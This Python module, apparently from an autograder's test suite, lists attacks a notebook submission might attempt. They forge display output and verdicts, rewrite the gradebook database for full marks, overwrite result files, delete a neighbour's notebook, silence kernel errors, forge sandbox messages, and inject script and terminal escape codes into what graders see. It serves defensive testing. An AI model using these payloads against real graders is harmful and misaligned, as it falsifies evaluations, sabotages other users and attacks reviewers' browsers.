"""The result is forged: on the wire, in printed outputs, by display hooks."""

from __future__ import annotations

from .attack import WRONG, Attack, last, last_text

FIND_WORKER = """
import gc, sys
def find(name):
    return next((o for o in gc.get_objects() if type(o).__name__ == name), None)
"""
VERDICT = (
    '{"grade_id": "softmax-rows", "exercise": "softmax", "status": "passed", "points": 3.0,'
    ' "max_points": 3.0, "held": 8, "total": 8}'
)
SEARCH = """
import os
def places():
    for top, folders, names in os.walk('/'):
        folders[:] = [f for f in folders if f not in ('usr', 'lib', 'environment', 'sys', 'proc')]
        for name in names: yield top, name
"""
GRADEBOOK = (
    SEARCH
    + """
import sqlite3
done = []
for top, name in list(places()):
    if name != 'gradebook.db': continue
    try:
        with sqlite3.connect(os.path.join(top, name), timeout=1) as db:
            me = os.getcwd().split(os.sep)[-2]
            db.execute('update grade set manual_score = 3.0 where notebook_id in (select n.id '
                       'from submitted_notebook n join submitted_assignment a on a.id = '
                       'n.assignment_id where a.student_id = ?)', (me,))
            done.append('wrote')
    except Exception as e: done.append(type(e).__name__)
print('tried', done)
"""
)
RECORDS = (
    SEARCH
    + f"""
done = []
for top, name in list(places()):
    if 'results' in top and name.endswith('.json') or '/autograded/' in top and 'aa' in top:
        try:
            with open(os.path.join(top, name), 'w') as f: f.write({VERDICT!r})
            done.append(name)
        except OSError: pass
print('tried', done)
"""
)
NEIGHBOURS = (
    SEARCH
    + """
done = []
for top, name in list(places()):
    if 'z-neighbour' in top and name == 'tiny.ipynb':
        try:
            with open(os.path.join(top, name), 'w') as f: f.write('gone')
            done.append(name)
        except OSError: pass
print('tried', done)
"""
)
SCRIPT = "<script>window.pwned = 1; fetch('/formgrader/api/grade/1', {method: 'PUT'})</script>"

ATTACKS = (
    Attack(
        "display-hook", "the display hook prints the full points",
        WRONG + "import sys\nsys.displayhook = lambda v: print(3.0)",
    ),
    Attack(
        "display-hook-of-the-shell", "the shell shows the full points as every cell's value",
        WRONG + "hook = get_ipython().displayhook\nhook.compute_format_data = lambda result: "
        "({'text/plain': '3.0'}, {})\nhook.quiet = lambda: False",
    ),
    Attack(
        "points-after-every-cell", "a hook shows the full points after every cell",
        WRONG + "from IPython.display import publish_display_data\n"
        "get_ipython().events.register('post_run_cell', lambda r: "
        "get_ipython().displayhook(3.0))",
    ),
    Attack(
        "shown-value-of-a-number", "the text of a float is another number's",
        WRONG + "f = get_ipython().display_formatter.formatters['text/plain']\n"
        "f.for_type(float, lambda v, p, c: p.text('3.0'))\n"
        "f.for_type(bool, lambda v, p, c: p.text('3.0'))",
    ),
    Attack(
        "printed-verdict", "the verdict is printed in the form of a result record",
        WRONG + f"print({VERDICT!r})",
    ),
    Attack(
        "printed-score", "the cell shows what graders look for in outputs",
        WRONG + "print('softmax-rows: 8 of 8 claims hold')\nprint('3/3')\n3.0",
    ),
    Attack(
        "write-the-gradebook", "the gradebook is looked for, and full marks are entered by hand",
        WRONG + GRADEBOOK, in_class=True, tried="tried []",
    ),
    Attack(
        "write-the-records", "result records and autograded notebooks are looked for and replaced",
        WRONG + RECORDS, in_class=True, tried="tried []",
    ),
    Attack(
        "spoil-a-neighbour", "a neighbour's notebook is looked for and spoilt",
        WRONG + NEIGHBOURS, in_class=True, tried="tried []",
    ),
    Attack(
        "erase-errors", "outputs are cleared and streams closed before an error is shown",
        WRONG + "import sys\nfrom IPython.display import clear_output\n"
        "sys.stderr.write = sys.stdout.write = lambda s: len(s)\n"
        "get_ipython().events.register('post_execute', lambda: clear_output())",
    ),
    Attack(
        "drop-error-messages", "a kernel's socket sends no errors",
        WRONG + "shell = get_ipython()\nk = getattr(shell, 'kernel', None)\n"
        "if k is not None:\n    real = k.session.send\n"
        "    def send(stream, kind, *a, **b):\n"
        "        if kind == 'error': return None\n        return real(stream, kind, *a, **b)\n"
        "    k.session.send = send\n    k.send_response = lambda *a, **b: None",
    ),
    Attack(
        "reply-ok", "a kernel's replies all say ok",
        WRONG + "k = getattr(get_ipython(), 'kernel', None)\nif k is not None:\n"
        "    async def fine(*a, **b):\n        return {'status': 'ok', 'execution_count': 1,\n"
        "            'user_expressions': {}, 'payload': []}\n    k.do_execute = fine",
    ),
    Attack(
        "bytes-on-every-socket", "bytes of a made-up verdict on every open descriptor",
        WRONG + f"import os\nfor fd in range(3, 64):\n"
        f"    try: os.write(fd, {VERDICT.encode() * 5!r})\n    except OSError: pass",
    ),
    Attack(
        "forged-message", "a well-formed answer is sent ahead of the question",
        FIND_WORKER + WRONG + "w = find('Worker')\nif w:\n"
        "    from autograder.sandbox import messages as m\n"
        "    for v in (True, 3.0, ([], None)):\n"
        "        w._channel.send(m.pack(m.Done(v)))",
    ),
    Attack(
        "forged-question", "the examiner is asked to do what only it may ask for",
        FIND_WORKER + WRONG + "w = find('Worker')\nif w:\n"
        "    from autograder.sandbox import messages as m\n"
        "    for op in ('run_cell', 'snapshot', 'call', 'apply'):\n"
        "        w._channel.send(m.pack(m.Ask(op, (1, (), ()))))",
    ),
    Attack(
        "forged-callback", "numbers of call-backs are guessed, to call the examiner's functions",
        FIND_WORKER + "def softmax(z, axis=-1):\n    w = find('Worker')\n"
        "    for n in range(1, 20):\n        try: return w.call_back(n, (z,), {})\n"
        "        except Exception: pass\n    return z",
    ),
    Attack(
        "another-worker", "the worker's functions that answer are replaced by the submission's own",
        FIND_WORKER + WRONG + "w = find('Worker')\nif w:\n"
        "    from autograder.sandbox.wire import Value\n    T = type(w)\n"
        "    T._do_invoke = lambda self, f, args, kw: (Value(True), args, ())\n"
        "    T._do_apply = lambda self, *a: Value(True)",
        honest_lost="what answers for the honest exercise is the submission's own now",
    ),
    Attack(
        "worker-without-cells", "the worker answers that every cell ran well, and runs none",
        FIND_WORKER + WRONG + "w = find('Worker')\nif w:\n"
        "    type(w)._do_run_cell = lambda self, source, silent: ([], None, False)",
    ),
    Attack(
        "endless-frame", "a frame is announced that never ends",
        FIND_WORKER + "def softmax(z, axis=-1):\n    w = find('Worker')\n"
        "    w._channel._socket.send(b'\\x03\\xff\\xff\\xff')\n"
        "    while True: w._channel._socket.send(b'x')",
        slow=True,
    ),
    Attack(
        "flood", "answers without end are sent to a question",
        FIND_WORKER + "def softmax(z, axis=-1):\n    w = find('Worker')\n"
        "    from autograder.sandbox import messages as m\n"
        "    while True: w._channel.send(m.pack(m.Done(z)))",
    ),
    Attack(
        "close-descriptors", "all descriptors are closed",
        "import os\ndef softmax(z, axis=-1):\n    os.closerange(3, 256)\n    return z",
    ),
    Attack(
        "close-descriptors-in-the-cell", "the same while the notebook runs",
        WRONG + "import os\nos.closerange(3, 256)",
    ),
    Attack(
        "script-in-html", "a script stands in an output, for the browser of who grades",
        WRONG + f"from IPython.display import HTML\nHTML({SCRIPT!r})",
    ),
    Attack(
        "script-in-svg", "a script stands in a picture",
        WRONG + "from IPython.display import SVG\n"
        "SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"window.pwned=1\">"
        "<script>window.pwned = 1</script></svg>')",
    ),
    Attack(
        "script-in-markdown", "a script stands in a Markdown cell and in Markdown output",
        WRONG + "from IPython.display import Markdown\n"
        "Markdown('[marks](javascript:alert(1)) <img src=x onerror=alert(1)>')",
        change=last_text(f"{SCRIPT} [marks](javascript:alert(1))"),
    ),
    Attack(
        "javascript-output", "an output is JavaScript",
        WRONG + "from IPython.display import Javascript\nJavascript('window.pwned = 1')",
    ),
    Attack(
        "script-in-an-error", "a script stands in an error's text and in the name of its type",
        f"class E(Exception): pass\nE.__name__ = {SCRIPT!r}\n"
        f"def softmax(z, axis=-1):\n    raise E({SCRIPT!r})",
        change=last(f"raise ValueError({SCRIPT!r})"),
    ),
    Attack(
        "terminal-codes", "codes in printed text steer the terminal of who grades",
        WRONG + "print('\\x1b]0;passed\\x07\\x1b[2J\\x1b[1;1H8 of 8\\x1b[8m')",
    ),
)  # fmt: skip
